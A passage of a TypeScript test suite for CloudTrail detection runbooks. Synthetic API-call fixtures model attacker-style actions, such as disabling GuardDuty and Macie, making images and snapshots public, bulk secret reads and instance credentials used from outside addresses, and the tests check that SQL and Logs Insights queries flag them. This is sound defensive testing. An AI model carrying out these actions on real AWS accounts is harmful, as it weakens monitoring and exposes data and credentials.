    expect(step("account_public_access_opened_insights").rowCount).toBe(3);
    expect(step("account_public_access_opened_insights").status).toBe("failed");
    // and every successful account-level call is a change the pipeline should have made
    expect(step("modifications").rows.map((r) => r[4])).toEqual([
      "PutAccountPublicAccessBlock",
      "PutAccountPublicAccessBlock",
      "PutAccountPublicAccessBlock",
      "DeleteAccountPublicAccessBlock",
    ]);
    expectTruth(reports, events, [
      "resource-modifications/account_public_access_opened",
      "resource-modifications/account_public_access_opened_insights",
      "resource-modifications/modifications",
    ]);
  });

  it("finds GuardDuty, Access Analyzer and Macie weakened, never a refused call", async () => {
    const reports = await onJune1("runbooks/cloudtrail-tampering.md", events);
    // 6 (suspended) and 8 to 16 but 13 (refused); not 7 (a detector left enabled)
    const expected = ["06", "08", "09", "10", "11", "12", "14", "15", "16"];
    expect(minutes(reports, "detection_weakened")).toEqual(expected);
    const insights = reports[0]!.steps.find((s) => s.id === "detection_weakened_insights")!;
    expect(insights.rowCount).toBe(expected.length);
    expect(insights.status).toBe("failed");
    expectTruth(reports, events, [
      "cloudtrail-tampering/detection_weakened",
      "cloudtrail-tampering/detection_weakened_insights",
    ]);
  });

  it("finds snapshots, images and functions handed outside, never a refused or empty call", async () => {
    const EC2 = "ec2.amazonaws.com";
    const RDS = "rds.amazonaws.com";
    const LAMBDA = "lambda.amazonaws.com";
    const snap = {
      snapshotId: "snap-0123456789abcdef0",
      attributeType: "CREATE_VOLUME_PERMISSION",
    };
    const ami = { imageId: "ami-0123456789abcdef0", attributeType: "launchPermission" };
    const dbSnap = { dBSnapshotIdentifier: "nightly", attributeName: "restore" };
    const exposures = [
      // 30: a snapshot's permission taken away from another account: nothing shared
      call(30, EC2, "ModifySnapshotAttribute", {
        ...snap,
        createVolumePermission: { remove: { items: [{ userId: "210987654321" }] } },
      }),
      // 31: an image made public, refused: nothing shared
      call(
        31,
        EC2,
        "ModifyImageAttribute",
        { ...ami, launchPermission: { add: { items: [{ group: "all" }] } } },
        denied,
      ),
      // 32: an image made public
      call(32, EC2, "ModifyImageAttribute", {
        ...ami,
        launchPermission: { add: { items: [{ group: "all" }] } },
      }),
      // 33: a DB snapshot's restore permission removed, 34: a DB snapshot's other attribute
      call(33, RDS, "ModifyDBSnapshotAttribute", { ...dbSnap, valuesToRemove: ["210987654321"] }),
      call(34, RDS, "ModifyDBSnapshotAttribute", {
        dBSnapshotIdentifier: "nightly",
        attributeName: "other",
        valuesToAdd: ["210987654321"],
      }),
      // 35: a cluster snapshot made public
      call(35, RDS, "ModifyDBClusterSnapshotAttribute", {
        dBClusterSnapshotIdentifier: "aurora-nightly",
        attributeName: "restore",
        valuesToAdd: ["all"],
      }),
      // 36: a function S3 may invoke, 37: "*" narrowed to the organization, 38: "*" refused
      call(36, LAMBDA, "AddPermission20150331v2", {
        functionName: "thumbnails",
        statementId: "s3",
        action: "lambda:InvokeFunction",
        principal: "s3.amazonaws.com",
      }),
      call(37, LAMBDA, "AddPermission20150331v2", {
        functionName: "thumbnails",
        statementId: "org",
        action: "lambda:InvokeFunction",
        principal: "*",
        principalOrgID: "o-a1b2c3d4e5",
      }),
      call(
        38,
        LAMBDA,
        "AddPermission20150331v2",
        { functionName: "thumbnails", action: "lambda:InvokeFunction", principal: "*" },
        denied,
      ),
      // 39: a trust anchor, refused
      call(
        39,
        "rolesanywhere.amazonaws.com",
        "CreateTrustAnchor",
        { name: "partner-ca", enabled: true },
        denied,
      ),
    ];
    const reports = await onJune1("runbooks/data-exposure.md", exposures);
    const step = (id: string) => reports[0]!.steps.find((s) => s.id === id)!;
    expect(step("shared_outside").rows).toEqual([
      [
        "2024-06-01T10:32:00Z",
        "arn:aws:iam::123456789012:user/mallory",
        "ModifyImageAttribute",
        "ami-0123456789abcdef0",
        "all",
      ],
      [
        "2024-06-01T10:35:00Z",
        "arn:aws:iam::123456789012:user/mallory",
        "ModifyDBClusterSnapshotAttribute",
        "aurora-nightly",
        "all",
      ],
    ]);
    expect(step("shared_outside").status).toBe("failed");
    expect(
      step("shared_outside_insights")
        .rows.map((r) => r[2])
        .sort(),
    ).toEqual(["ModifyDBClusterSnapshotAttribute", "ModifyImageAttribute"]);
    for (const id of ["public_functions", "public_functions_insights"]) {
      expectNoRows(step(id));
    }
    for (const id of ["trust_anchors", "trust_anchors_insights"]) {
      expectNoRows(step(id));
    }
    expectTruth(reports, exposures, DATA_EXPOSURE_STEPS);
  });

  it("reads a setting written as text or a number as the JSON boolean, in both dialects", async () => {
    // Booleans as strings (as in Panther's records), in any case, and as numbers (1, "1.0", 0):
    // "true" and 1 are on, "false" and 0 are off, everywhere
    const asText = [
      call(30, S3, "PutAccountPublicAccessBlock", {
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: "true",
          IgnorePublicAcls: "true",
          BlockPublicPolicy: "true",
          RestrictPublicBuckets: "true",
        },
      }),
      call(31, S3, "PutAccountPublicAccessBlock", {
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: "true",
          IgnorePublicAcls: "true",
          BlockPublicPolicy: "false",
          RestrictPublicBuckets: "true",
        },
      }),
      call(32, GD, "UpdateDetector", { ...detector, enable: "false" }),
      call(33, GD, "UpdateDetector", { ...detector, enable: "true" }),
      // Numbers, numbers as text and text in another case: 24 is all on, 25 and 26 are not
      call(24, S3, "PutAccountPublicAccessBlock", {
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: 1,
          IgnorePublicAcls: "TRUE",
          BlockPublicPolicy: "1.0",
          RestrictPublicBuckets: "True",
        },
      }),
      call(25, S3, "PutAccountPublicAccessBlock", {
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: 1,
          IgnorePublicAcls: 1,
          BlockPublicPolicy: 0,
          RestrictPublicBuckets: 1,
        },
      }),
      call(26, S3, "PutAccountPublicAccessBlock", {
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: "True",
          IgnorePublicAcls: "FALSE",
          BlockPublicPolicy: "True",
          RestrictPublicBuckets: "True",
        },
      }),
      call(34, GD, "UpdateDetector", { ...detector, enable: 0 }),
      call(35, GD, "UpdateDetector", { ...detector, enable: "FALSE" }),
      call(36, GD, "UpdateDetector", { ...detector, enable: "0.0" }),
      call(37, GD, "UpdateDetector", { ...detector, enable: 1 }),
      call(38, GD, "UpdateDetector", { ...detector, enable: "True" }),
      call(39, GD, "UpdateDetector", { ...detector, dataSources: { s3Logs: { enable: "False" } } }),
    ];
    const s3 = await onJune1("runbooks/resource-modifications.md", asText);
    // 24 and 30 leave every setting on; 25, 26 and 31 turn one off
    expect(minutes(s3, "account_public_access_opened")).toEqual(["25", "26", "31"]);
    expect(minutes(s3, "account_public_access_opened_insights").sort()).toEqual(["25", "26", "31"]);
    const gd = await onJune1("runbooks/cloudtrail-tampering.md", asText);
    // 32, 34, 35 and 36 suspend the detector, 39 its S3 logs; 33, 37 and 38 leave it enabled
    const off = ["32", "34", "35", "36", "39"];
    expect(minutes(gd, "detection_weakened")).toEqual(off);
    expect(minutes(gd, "detection_weakened_insights").sort()).toEqual(off);
    expectTruth([...s3, ...gd], asText, [
      "resource-modifications/account_public_access_opened",
      "resource-modifications/account_public_access_opened_insights",
      "cloudtrail-tampering/detection_weakened",
      "cloudtrail-tampering/detection_weakened_insights",
    ]);
  });

  it("finds GuardDuty protection plans switched off and Macie paused, never a refused call", async () => {
    const MACIE = "macie2.amazonaws.com";
    const feature = (name: string, status: string) => ({ name, status });
    const plans = [
      // 40: one plan of two DISABLED; 41: every plan ENABLED (an agent's management off is not a plan)
      call(40, GD, "UpdateDetector", {
        ...detector,
        features: [feature("S3_DATA_EVENTS", "ENABLED"), feature("EKS_AUDIT_LOGS", "DISABLED")],
      }),
      call(41, GD, "UpdateDetector", {
        ...detector,
        features: [
          {
            ...feature("RUNTIME_MONITORING", "ENABLED"),
            additionalConfiguration: [{ name: "EKS_ADDON_MANAGEMENT", status: "DISABLED" }],
          },
        ],
      }),
      // 42: the seventh item of every plan DISABLED; 43: a plan DISABLED, refused
      call(42, GD, "UpdateDetector", {
        ...detector,
        features: [
          feature("S3_DATA_EVENTS", "ENABLED"),
          feature("EKS_AUDIT_LOGS", "ENABLED"),
          feature("EBS_MALWARE_PROTECTION", "ENABLED"),
          feature("RDS_LOGIN_EVENTS", "ENABLED"),
          feature("LAMBDA_NETWORK_LOGS", "ENABLED"),
          feature("EKS_RUNTIME_MONITORING", "ENABLED"),
          feature("RUNTIME_MONITORING", "DISABLED"),
        ],
      }),
      call(
        43,
        GD,
        "UpdateDetector",
        { ...detector, features: [feature("RUNTIME_MONITORING", "DISABLED")] },
        denied,
      ),
      // 44 to 46: each older data source off; 47: all of them on
      call(44, GD, "UpdateDetector", { ...detector, dataSources: { s3Logs: { enable: false } } }),
      call(45, GD, "UpdateDetector", {
        ...detector,
        dataSources: { s3Logs: { enable: true }, kubernetes: { auditLogs: { enable: false } } },
      }),
      call(46, GD, "UpdateDetector", {
        ...detector,
        dataSources: { malwareProtection: { scanEc2InstanceWithFindings: { ebsVolumes: false } } },
      }),
      call(47, GD, "UpdateDetector", {
        ...detector,
        dataSources: {
          s3Logs: { enable: true },
          kubernetes: { auditLogs: { enable: true } },
          malwareProtection: { scanEc2InstanceWithFindings: { ebsVolumes: true } },
        },
      }),
      // 48: Macie paused; 49: resumed; 50: only its publishing frequency; 51: a member paused
      call(48, MACIE, "UpdateMacieSession", { status: "PAUSED" }),
      call(49, MACIE, "UpdateMacieSession", { status: "ENABLED" }),
      call(50, MACIE, "UpdateMacieSession", { findingPublishingFrequency: "ONE_HOUR" }),
      call(51, MACIE, "UpdateMemberSession", { id: "210987654321", status: "PAUSED" }),
      // 52: Macie paused, refused
      call(52, MACIE, "UpdateMacieSession", { status: "PAUSED" }, denied),
    ];
    const reports = await onJune1("runbooks/cloudtrail-tampering.md", plans);
    const expected = ["40", "42", "44", "45", "46", "48", "51"];
    expect(minutes(reports, "detection_weakened")).toEqual(expected);
    expect(minutes(reports, "detection_weakened_insights").sort()).toEqual(expected);
    const step = reports[0]!.steps.find((s) => s.id === "detection_weakened")!;
    expect(step.rows.find((r) => r[3] === "UpdateMemberSession")?.[4]).toBe("210987654321");
    expect(step.status).toBe("failed");
    expectTruth(reports, plans, [
      "cloudtrail-tampering/detection_weakened",
      "cloudtrail-tampering/detection_weakened_insights",
    ]);
  });

  it("finds imported key material deleted and key policies replaced by hand", async () => {
    const reports = await onJune1("runbooks/kms-key-deletion.md", events);
    // 17 deleted the material; 18 was refused
    expect(minutes(reports, "key_deletions")).toEqual(["17"]);
    // 19 by hand, 20 by the pipeline (listed, not offending), 21 refused
    const policies = reports[0]!.steps.find((s) => s.id === "key_policy_changes")!;
    expect(policies.rows.map((r) => [String(r[0]).slice(14, 16), r[2]])).toEqual([
      ["19", false],
      ["20", true],
    ]);
    expect(policies.status).toBe("failed");
    const insights = reports[0]!.steps.find((s) => s.id === "key_policy_changes_insights")!;
    expect(insights.rows.map((r) => r[1])).toEqual(["arn:aws:iam::123456789012:user/mallory"]);
    expectTruth(reports, events, [
      "kms-key-deletion/key_deletions",
      "kms-key-deletion/key_deletions_insights",
      "kms-key-deletion/key_policy_changes",
      "kms-key-deletion/key_policy_changes_insights",
    ]);
  });

  it("moves the same callers in SQL and Logs Insights when automation_pattern is changed", async () => {
    // The same calls as above (19 by hand, 20 by the pipeline, 21 refused) and a trust policy
    // changed by each; the pattern now names mallory (a "/" in it: the Insights literal escapes it)
    const trust = { roleName: "deploy", policyDocument: '{"Version":"2012-10-17"}' };
    const calls = [
      ...events.filter((e) => is(e, KMS, "PutKeyPolicy")),
      call(22, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust),
      call(23, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust, byPipeline),
    ];
    const pattern = ":user/mallory$";
    const param = ["--param", `automation_pattern=${pattern}`];
    const kms = await onJune1("runbooks/kms-key-deletion.md", calls, param);
    const mods = await onJune1("runbooks/resource-modifications.md", calls, param);
    const rows = (reports: RunReport[], id: string) =>
      reports[0]!.steps.find((s) => s.id === id)!.rows;
    const pipeline = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
    // SQL: mallory is the automation now, the pipeline is not
    expect(rows(kms, "key_policy_changes").map((r) => [r[1], r[2]])).toEqual([
      ["arn:aws:iam::123456789012:user/mallory", true],
      [pipeline, false],
    ]);
    // Logs Insights: the calls not made by the automation are the pipeline's, as in SQL
    expect(rows(kms, "key_policy_changes_insights").map((r) => r[1])).toEqual([pipeline]);
    expect(rows(mods, "trust_policy_changes").map((r) => r[1])).toEqual([pipeline]);
    expect(rows(mods, "modifications").map((r) => [r[1], r[2]])).toEqual([
      ["arn:aws:iam::123456789012:user/mallory", true],
      [pipeline, false],
    ]);
    expect(kms[0]!.params.automation_pattern).toBe(pattern);
    expectTruth(kms, calls, [
      "kms-key-deletion/key_policy_changes",
      "kms-key-deletion/key_policy_changes_insights",
    ]);
    expectTruth(mods, calls, [
      "resource-modifications/modifications",
      "resource-modifications/trust_policy_changes",
    ]);
  });

  it("judges audit-iam's policy attachments by automation_pattern, not by its default", async () => {
    const attach = { userName: "bob", policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess" };
    const calls = [
      call(24, "iam.amazonaws.com", "AttachUserPolicy", attach),
      call(25, "iam.amazonaws.com", "AttachUserPolicy", attach, byPipeline),
    ];
    const run = (pattern: string) =>
      onJune1("runbooks/audit-iam.md", calls, ["--param", `automation_pattern=${pattern}`]);
    const step = (r: RunReport[]) => r[0]!.steps.find((s) => s.id === "policy_attachments")!;
    // The pattern names mallory: the pipeline's attachment (25) is the one made by hand
    const mallory = await run(":user/mallory$");
    expect(step(mallory).rows.map((r) => [r[0], r[1]])).toEqual([
      ["arn:aws:iam::123456789012:user/mallory", true],
      ["arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42", false],
    ]);
    expect(step(mallory).status).toBe("failed");
    // A pattern naming both callers: nothing attached by hand
    const both = await run(":user/mallory$|:assumed-role/ci-deployer/");
    expect(step(both).status).toBe("passed");
    expectTruth(mallory, calls, ["audit-iam/policy_attachments"]);
  });

  it("judges access keys created for others by automation_pattern", async () => {
    const key = { userName: "bob" };
    const calls = [
      call(30, "iam.amazonaws.com", "CreateAccessKey", key),
      call(31, "iam.amazonaws.com", "CreateAccessKey", key, byPipeline),
    ];
    const reports = await onJune1("runbooks/access-key-lifecycle.md", calls, [
      "--param",
      "automation_pattern=:user/mallory$",
    ]);
    const step = reports[0]!.steps.find((s) => s.id === "keys_for_others")!;
    // mallory is the automation now: only the pipeline's key for bob is one made by hand
    expect(step.rows.map((r) => r[1])).toEqual([
      "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42",
    ]);
    expectTruth(reports, calls, ["access-key-lifecycle/keys_for_others"]);
  });

  it("moves trail and security group changes in Logs Insights with automation_pattern too", async () => {
    const trail = { name: "org-trail" };
    const group = { groupId: "sg-0aaaaaaaaaaaaaa01" };
    const calls = [
      call(26, "cloudtrail.amazonaws.com", "UpdateTrail", trail),
      call(27, "cloudtrail.amazonaws.com", "UpdateTrail", trail, byPipeline),
      call(28, "ec2.amazonaws.com", "RevokeSecurityGroupIngress", group),
      call(29, "ec2.amazonaws.com", "RevokeSecurityGroupIngress", group, byPipeline),
    ];
    const param = ["--param", "automation_pattern=:user/mallory$"];
    const pipeline = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
    const step = (r: RunReport[], id: string) => r[0]!.steps.find((s) => s.id === id)!;
    const trails = await onJune1("runbooks/cloudtrail-tampering.md", calls, param);
    // SQL: the pipeline's change is the one made by hand; Insights lists it alone
    expect(step(trails, "trail_changes").rows.map((r) => [r[1], r[2]])).toEqual([
      ["arn:aws:iam::123456789012:user/mallory", true],
      [pipeline, false],
    ]);
    expect(step(trails, "trail_changes_by_hand_insights").rows.map((r) => r[2])).toEqual([
      pipeline,
    ]);
    const groups = await onJune1("runbooks/security-group-changes.md", calls, param);
    expect(step(groups, "all_changes").rows.map((r) => [r[1], r[2]])).toEqual([
      [pipeline, false],
      ["arn:aws:iam::123456789012:user/mallory", true],
    ]);
    expect(step(groups, "sg_changes_insights").rows.map((r) => r[1])).toEqual([pipeline]);
    expectTruth(trails, calls, [
      "cloudtrail-tampering/trail_changes",
      "cloudtrail-tampering/trail_changes_by_hand_insights",
    ]);
    expectTruth(groups, calls, [
      "security-group-changes/all_changes",
      "security-group-changes/sg_changes_insights",
    ]);
  });
});

describe("credential-access, remote-execution, lambda-changes, bedrock-model-use and federation tokens on the shapes the data sets lack", () => {
  /** A call as CloudTrail records it, by `who` (an ARN; a role's is a session), minute `i`. */
  const by = (
    who: string,
    i: number,
    eventSource: string,
    eventName: string,
    requestParameters: Record<string, unknown>,
    extra: Record<string, unknown> = {},
  ) => {
    const identity = {
      type: who.includes(":assumed-role/") ? "AssumedRole" : "IAMUser",
      principalId: `AIDAEXAMPLE${String(i).padStart(9, "0")}`,
      arn: who,
      accountId: "123456789012",
    };
    // An instance's own calls come from its VPC, as in the generated traffic.
    const vpc = /\/i-[0-9a-f]+$/.test(who) ? { sourceIPAddress: "10.20.3.41" } : {};
    return crafted(i, identity, eventSource, eventName, requestParameters, {
      readOnly: true,
      ...vpc,
      ...extra,
    });
  };
  const APP = "arn:aws:sts::123456789012:assumed-role/app-backend/i-0a1b2c3d4e5f60718";
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const BOB = "arn:aws:iam::123456789012:user/bob";
  const SM = "secretsmanager.amazonaws.com";
  const SSM = "ssm.amazonaws.com";
  const EC2 = "ec2.amazonaws.com";
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;

  it("judges secret reads by who reads them and how many, not by the call alone", async () => {
    const events = [
      // 0 to 11: the application reads twelve secrets in one hour: a bulk read by a workload
      ...Array.from({ length: 12 }, (_, i) =>
        by(APP, i, SM, "GetSecretValue", { secretId: `s${i}` }),
      ),
      // 12: the application reads one of them again: no new secret
      by(APP, 12, SM, "GetSecretValue", { secretId: "s0" }),
      // 13: bob reads a parameter without decryption (its ciphertext): not a secret read
      by(BOB, 13, SSM, "GetParameter", { name: "/app/db", withDecryption: false }),
      // 14: bob reads a path of parameters decrypted; 15: the same, "true" as text
      by(BOB, 14, SSM, "GetParametersByPath", { path: "/app", withDecryption: true }),
      by(BOB, 15, SSM, "GetParametersByPath", { path: "/app", withDecryption: "TRUE" }),
      // 16: bob asks for a secret list, refused; 17: an AWS service reads a secret (not listed)
      by(
        BOB,
        16,
        SM,
        "BatchGetSecretValue",
        { secretIdList: ["a", "b"] },
        {
          errorCode: "AccessDeniedException",
        },
      ),
      by(
        "",
        17,
        SM,
        "GetSecretValue",
        { secretId: "rds!db-1" },
        {
          userIdentity: { type: "AWSService", invokedBy: "rds.amazonaws.com" },
        },
      ),
      // 18: bob reads an instance's attribute other than user data: not a secret read
      by(BOB, 18, EC2, "DescribeInstanceAttribute", {
        instanceId: "i-1",
        attribute: "instanceType",
      }),
    ];
    const reports = await onJune1("runbooks/credential-access.md", events);
    // bob's reads outside the workloads, the refused one counted; SQL reads "TRUE" as true
    expect(step(reports, "reads_outside_workloads").rows.map((r) => r.slice(0, 4))).toEqual([
      [BOB, "GetParametersByPath", 2, 0],
      [BOB, "BatchGetSecretValue", 1, 1],
    ]);
    // Logs Insights reads true as 1, and the text "TRUE" as no number: one call there
    expect(step(reports, "reads_outside_workloads_insights").rows.sort()).toEqual([
      [BOB, "BatchGetSecretValue", 1],
      [BOB, "GetParametersByPath", 1],
    ]);
    // the application read twelve distinct secrets in its hour: above the ten it may
    expect(step(reports, "bulk_reads").rows).toEqual([[APP, "2024-06-01T10", 13, 0, 12]]);
    expect(step(reports, "bulk_reads").status).toBe("failed");
    // with the threshold at twelve, nobody is a bulk reader; with bob a reader, nobody is outside
    const tuned = await onJune1("runbooks/credential-access.md", events, [
      "--param",
      "max_secrets_per_hour=12",
      "--param",
      "reader_pattern=:assumed-role/app-backend/|:user/bob$",
    ]);
    expect(tuned[0]!.status).toBe("passed");
    const steps = [
      "credential-access/reads_outside_workloads",
      "credential-access/reads_outside_workloads_insights",
      "credential-access/bulk_reads",
    ];
    expectTruth(reports, events, steps);
    expectTruth(tuned, events, steps);
  });

  it("lists instance credentials used where people call from, and outside the instances' addresses", async () => {
    const INST = "arn:aws:sts::123456789012:assumed-role/web/i-0123456789abcdef0";
    const NAT1 = "arn:aws:sts::123456789012:assumed-role/batch/i-0fedcba9876543210";
    const NAT2 = "arn:aws:sts::123456789012:assumed-role/batch/i-00aa11bb22cc33dd4";
    const from = (sourceIPAddress: string, extra: Record<string, unknown> = {}) => ({
      sourceIPAddress,
      ...extra,
    });
    const STS = "sts.amazonaws.com";
    const events = [
      // 0, 1: the web instance's session from an address bob (2) and another account's caller
      // without an ARN (3) call from: listed, two other identities, one call refused
      by(INST, 0, STS, "GetCallerIdentity", {}, from("198.51.100.7")),
      by(INST, 1, EC2, "DescribeInstances", {}, from("198.51.100.7", { errorCode: "Denied" })),
      by(BOB, 2, EC2, "DescribeInstances", {}, from("198.51.100.7")),
      crafted(
        3,
        { type: "AWSAccount", principalId: "AIDAOTHER:x", accountId: "999988887777" },
        EC2,
        "DescribeRegions",
        {},
        from("198.51.100.7"),
      ),
      // 4, 5: private addresses are shared by design: not compared
      by(INST, 4, STS, "GetCallerIdentity", {}, from("10.20.3.41")),
      by(BOB, 5, STS, "GetCallerIdentity", {}, from("10.20.3.41")),
      // 6, 7: two instances behind one NAT address, no person there: not listed by default
      by(NAT1, 6, STS, "GetCallerIdentity", {}, from("54.240.1.10")),
      by(NAT2, 7, STS, "GetCallerIdentity", {}, from("54.240.1.10")),
      // 8: a service calling for the session (invokedBy), 9: the SSM agent's channel, from an
      // address bob uses (10): neither compared
      by(
        INST,
        8,
        EC2,
        "DescribeInstances",
        {},
        from("45.33.32.156", {
          userIdentity: { type: "AssumedRole", arn: INST, invokedBy: "eks.amazonaws.com" },
        }),
      ),
      by(INST, 9, "ssmmessages.amazonaws.com", "CreateControlChannel", {}, from("45.33.32.156")),
      by(BOB, 10, EC2, "DescribeInstances", {}, from("45.33.32.156")),
      // 11, 12: IPv6, public and shared: listed; 13, 14: a unique local IPv6 address: not
      by(INST, 11, STS, "GetCallerIdentity", {}, from("2001:db8::5")),
      by(BOB, 12, STS, "GetCallerIdentity", {}, from("2001:db8::5")),
      by(INST, 13, STS, "GetCallerIdentity", {}, from("fd00::1")),
      by(BOB, 14, STS, "GetCallerIdentity", {}, from("fd00::1")),
      // 15, 16: an address a pipeline session (not an instance) shares with the instance: listed
      // unless shared_address_pattern names it
      by(INST, 15, STS, "GetCallerIdentity", {}, from("192.0.2.10")),
      by(CI, 16, STS, "GetCallerIdentity", {}, from("192.0.2.10")),
      // 17: a session whose name starts with i- but names no instance counts as a person
      by(
        "arn:aws:sts::123456789012:assumed-role/ops/i-am-admin",
        17,
        STS,
        "GetCallerIdentity",
        {},
        from("203.0.113.9"),
      ),
      // 18: a VPC Lambda function behind the batch instances' NAT (its SDK's exec-env/AWS_...
      // user agent): a workload on AWS, not a person, so the instances there stay unlisted
      by(
        "arn:aws:sts::123456789012:assumed-role/orders-fn-role/orders-fn",
        18,
        STS,
        "GetCallerIdentity",
        {},
        from("54.240.1.10", {
          userAgent:
            "aws-sdk-js/3.540.0 ua/2.1 os/linux lang/js md/nodejs#20.11.1 exec-env/AWS_Lambda_nodejs20.x",
        }),
      ),
      // 18, 19: an IPv4-mapped IPv6 form of a private address: private, not compared; 20, 21:
      // fc0::1 is 0fc0::1, outside fc00::/7 (its first group has three digits): public, listed
      by(INST, 18, STS, "GetCallerIdentity", {}, from("::ffff:10.20.3.41")),
      by(BOB, 19, STS, "GetCallerIdentity", {}, from("::ffff:10.20.3.41")),
      by(INST, 20, STS, "GetCallerIdentity", {}, from("fc0::1")),
      by(BOB, 21, STS, "GetCallerIdentity", {}, from("fc0::1")),
    ];
    const rowsOf = async (extra: string[] = []) =>
      step(
        await onJune1("runbooks/credential-access.md", events, extra),
        "instance_credentials_elsewhere",
      ).rows;
    const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
    const listed = [
      [INST, "198.51.100.7", 2, 1, 2, at(0), at(1)],
      [INST, "192.0.2.10", 1, 0, 1, at(15), at(15)],
      [INST, "2001:db8::5", 1, 0, 1, at(11), at(11)],
      [INST, "fc0::1", 1, 0, 1, at(20), at(20)],
    ];
    const reports = await onJune1("runbooks/credential-access.md", events);
    expect(step(reports, "instance_credentials_elsewhere").rows).toEqual(listed);
    expect(step(reports, "instance_credentials_elsewhere").status).toBe("failed");
    expectTruth(reports, events, ["credential-access/instance_credentials_elsewhere"]);
    // the pipeline's address named as shared: that row goes
    const shared = ["--param", "shared_address_pattern=^192[.]0[.]2[.]"];
    expect(await rowsOf(shared)).toEqual([listed[0], listed[2], listed[3]]);
    // the strict check: the instances' own NAT address is another one, so the two batch
    // instances' calls are listed too, with no other identity there
    const strict = await onJune1("runbooks/credential-access.md", events, [
      "--param",
      "instance_address_pattern=^54[.]240[.]1[.]11$",
    ]);
    expect(step(strict, "instance_credentials_elsewhere").rows).toEqual([
      listed[0],
      [NAT2, "54.240.1.10", 1, 0, 0, at(7), at(7)],
      [NAT1, "54.240.1.10", 1, 0, 0, at(6), at(6)],
      listed[1],
      listed[2],
      listed[3],
    ]);
    expectTruth(strict, events, ["credential-access/instance_credentials_elsewhere"]);
  });

  it("lists what reaches into instances with the operator's verdict, and GPU launches", async () => {
    const events = [
      // 0: the pipeline deploys by Run Command (listed, an operator); 1: bob does the same
      by(CI, 0, SSM, "SendCommand", { documentName: "AWS-RunShellScript", instanceIds: ["i-1"] }),
      by(BOB, 1, SSM, "SendCommand", {
        documentName: "AWS-RunShellScript",
        instanceIds: ["i-2", "i-3"],
      }),
      // 2: bob changes an instance's type (no user data): not listed
      by(BOB, 2, EC2, "ModifyInstanceAttribute", {
        instanceId: "i-2",
        instanceType: { value: "t3.large" },
      }),
      // 3: bob opens a session, refused
      by(BOB, 3, SSM, "StartSession", { target: "i-3" }, { errorCode: "AccessDeniedException" }),
      // 4: a GPU launch; 5: an ordinary launch; 6: a launch from a template (no type)
      by(BOB, 4, EC2, "RunInstances", {
        instanceType: "g5.xlarge",
        instancesSet: { items: [{ imageId: "ami-1", minCount: 1, maxCount: 4 }] },
      }),
      by(BOB, 5, EC2, "RunInstances", { instanceType: "m5.large" }),
      by(BOB, 6, EC2, "RunInstances", { launchTemplate: { launchTemplateId: "lt-1" } }),
    ];
    const reports = await onJune1("runbooks/remote-execution.md", events);
    expect(step(reports, "instance_access").rows.map((r) => r.slice(1, 6).concat(r[7]!))).toEqual([
      [CI, true, "SendCommand", "i-1", "AWS-RunShellScript", null],
      [BOB, false, "SendCommand", "i-2", "AWS-RunShellScript", null],
      [BOB, false, "StartSession", "i-3", null, "AccessDeniedException"],
    ]);
    expect(step(reports, "instance_access_insights").rowCount).toBe(2);
    expect(step(reports, "unusual_instances").rows.map((r) => r.slice(1, 4))).toEqual([
      [BOB, "g5.xlarge", "4"],
    ]);
    expect(step(reports, "unusual_instances_insights").rowCount).toBe(1);
    // bob made an operator, and only m5 unusual: his command and session pass, m5 is listed
    const tuned = await onJune1("runbooks/remote-execution.md", events, [
      "--param",
      "operator_pattern=:user/bob$",
      "--param",
      "unusual_instance_types=^m5\\.",
    ]);
    expect(step(tuned, "instance_access_insights").rows.map((r) => r[1])).toEqual([CI]);
    expect(step(tuned, "unusual_instances").rows.map((r) => r[2])).toEqual(["m5.large"]);
    const steps = [
      "remote-execution/instance_access",
      "remote-execution/instance_access_insights",
      "remote-execution/unusual_instances",
      "remote-execution/unusual_instances_insights",
    ];
    expectTruth(reports, events, steps);
    expectTruth(tuned, events, steps);
  });

  it("lists Lambda changes with the pipeline's verdict, never a refused one", async () => {
    const L = "lambda.amazonaws.com";
    const role = "arn:aws:iam::123456789012:role/orders";
    const events = [
      // 0: the pipeline deploys new code; 1: bob does the same; 2: bob's, refused
      by(CI, 0, L, "UpdateFunctionCode20150331v2", { functionName: "orders", publish: true }),
      by(BOB, 1, L, "UpdateFunctionCode20150331v2", { functionName: "orders", publish: true }),
      by(
        BOB,
        2,
        L,
        "UpdateFunctionCode20150331v2",
        { functionName: "orders" },
        {
          errorCode: "AccessDeniedException",
        },
      ),
      // 3: bob publishes a layer; 4: creates a function with a role; 5: reads one (not a change)
      by(BOB, 3, L, "PublishLayerVersion20181031", { layerName: "ext" }),
      by(BOB, 4, L, "CreateFunction20150331", { functionName: "probe", role }),
      by(BOB, 5, L, "GetFunction20150331v2", { functionName: "orders" }),
    ];
    const reports = await onJune1("runbooks/lambda-changes.md", events);
    expect(step(reports, "function_changes").rows.map((r) => r.slice(1, 7))).toEqual([
      [CI, true, "UpdateFunctionCode20150331v2", "orders", null, null],
      [BOB, false, "UpdateFunctionCode20150331v2", "orders", null, null],
      [BOB, false, "PublishLayerVersion20181031", "ext", null, null],
      [BOB, false, "CreateFunction20150331", "probe", null, role],
    ]);
    expect(
      step(reports, "function_changes_insights")
        .rows.map((r) => r[2])
        .sort(),
    ).toEqual([
      "CreateFunction20150331",
      "PublishLayerVersion20181031",
      "UpdateFunctionCode20150331v2",
    ]);
    // bob made the automation: the pipeline's change is the one made by hand, in both dialects
    const tuned = await onJune1("runbooks/lambda-changes.md", events, [
      "--param",
      "automation_pattern=:user/bob$",
    ]);
    expect(step(tuned, "function_changes_insights").rows.map((r) => r[1])).toEqual([CI]);
    const steps = ["lambda-changes/function_changes", "lambda-changes/function_changes_insights"];
    expectTruth(reports, events, steps);
    expectTruth(tuned, events, steps);
  });

  it("judges Bedrock use by who uses it, how often and how many models, refused calls too", async () => {
    const B = "bedrock.amazonaws.com";
